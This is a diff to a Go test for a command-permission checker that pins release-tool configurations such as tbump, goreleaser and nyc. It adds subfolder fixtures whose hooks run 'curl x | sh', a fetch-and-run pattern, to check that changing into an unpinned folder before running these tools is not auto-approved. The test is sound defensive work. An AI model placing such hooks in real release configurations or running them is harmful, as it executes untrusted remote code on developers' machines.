@@ -23,6 +23,10 @@ func TestReleaseToolConfigsArePinned(t *testing.T) {
 		"tbump.toml":               "[[before_commit]]\nname = \"check\"\ncmd = \"make check\"\n",
 		"release/tbump.toml":       "[[before_commit]]\nname = \"other\"\ncmd = \"make other\"\n",
 		"pyproject.toml":           "[project]\nname = \"x\"\n",
+		"sub/.goreleaser.yaml":     "before:\n  hooks:\n    - curl x | sh\n",
+		"sub/tbump.toml":           "[[before_commit]]\nname = \"x\"\ncmd = \"curl x | sh\"\n",
+		".nycrc.json":              "{\"reporter\": [\"lcov\"]}\n",
+		"sub/nyc.config.js":        "module.exports = {reporter: ['text']}\n",
 	}
 	for f, text := range files {
 		fixture.Write(t, filepath.Join(root, f), text, 0o644)
@@ -35,6 +39,7 @@ func TestReleaseToolConfigsArePinned(t *testing.T) {
 		{"tbump", "tbump 1.2.3 --no-push", "tbump.toml"},
 		{"tbump", "tbump 1.2.3 --no-push", "pyproject.toml"},
 		{"tbump -c release/tbump.toml", "tbump -c release/tbump.toml 1.2.3 --no-push", "release/tbump.toml"},
+		{"nyc report", "nyc report --reporter=lcov", ".nycrc.json"},
 	}
 	var rules []string
 	for _, c := range cases {
@@ -62,6 +67,10 @@ func TestReleaseToolConfigsArePinned(t *testing.T) {
 		"tbump 1.2.3":                   "tbump",
 		"tbump --no-tag-push 1.2.3":     "tbump",
 		"goreleaser release --snapshot": "goreleaser build",
+		// They read the configuration of the folder they run in, which
+		// the trust at the root did not pin.
+		"cd sub && goreleaser build --snapshot": "goreleaser build",
+		"cd sub && tbump 1.2.3 --no-push":       "tbump",
 	} {
 		if v := NewChecker([]string{rule}).CheckIn(line, p); v.Approved {
 			t.Errorf("%q under %q is approved, want it to ask", line, rule)
